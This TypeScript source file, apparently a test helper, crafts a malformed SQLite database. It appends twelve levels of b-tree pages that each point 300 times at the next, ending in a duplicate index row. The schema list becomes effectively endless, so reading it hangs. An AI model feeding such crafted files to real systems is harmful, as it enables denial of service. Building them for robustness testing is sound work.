/** A file whose list of tables has no end that anybody could wait for, made of bytes as SQLite reads them. */
const pageSize = 4096;
const levels = 12;
const childrenPerPage = 300;
const headerOfInterior = 12;

/**
 * Appends pages of which each leads to the next one 300 times, and hangs them below the list of tables. The row at the
 * bottom is one that SQLite takes any number of times: the index of a key it knows already.
 */
export function endlessSchema(database: Buffer): Buffer {
  const pageCount = database.length / pageSize;
  if (database[100] !== 5) throw new Error('The list of tables fits into one page.');
  const pages = Array.from({ length: levels }, (_, level) => interior(pageCount + level + 2));
  const endless = Buffer.concat([database, ...pages, leaf()]);
  endless.writeUInt32BE(pageCount + levels + 1, 28);
  // the last child of the list
  endless.writeUInt32BE(pageCount + 1, 108);
  return endless;
}

function interior(child: number): Buffer {
  const page = Buffer.alloc(pageSize);
  const start = pageSize - childrenPerPage * 6;
  page[0] = 5;
  page.writeUInt16BE(childrenPerPage, 3);
  page.writeUInt16BE(start, 5);
  page.writeUInt32BE(child, 8);
  for (let cell = 0; cell < childrenPerPage; cell += 1) {
    const at = start + cell * 6;
    page.writeUInt16BE(at, headerOfInterior + cell * 2);
    page.writeUInt32BE(child, at);
    // the highest number of a row below it, in two bytes
    page[at + 4] = 0x80 | ((1_000 + cell) >> 7);
    page[at + 5] = (1_000 + cell) & 0x7f;
  }
  return page;
}

function leaf(): Buffer {
  const texts = ['index', 'sqlite_autoindex_profile_1', 'profile'].map((text) => Buffer.from(text));
  const types = [...texts.map((text) => 13 + 2 * text.length), 1, 0];
  const record = Buffer.concat([Buffer.from([types.length + 1, ...types]), ...texts, Buffer.from([3])]);
  const cell = Buffer.concat([Buffer.from([record.length, 100]), record]);
  const page = Buffer.alloc(pageSize);
  page[0] = 13;
  page.writeUInt16BE(1, 3);
  page.writeUInt16BE(pageSize - cell.length, 5);
  page.writeUInt16BE(pageSize - cell.length, 8);
  cell.copy(page, pageSize - cell.length);
  return page;
}
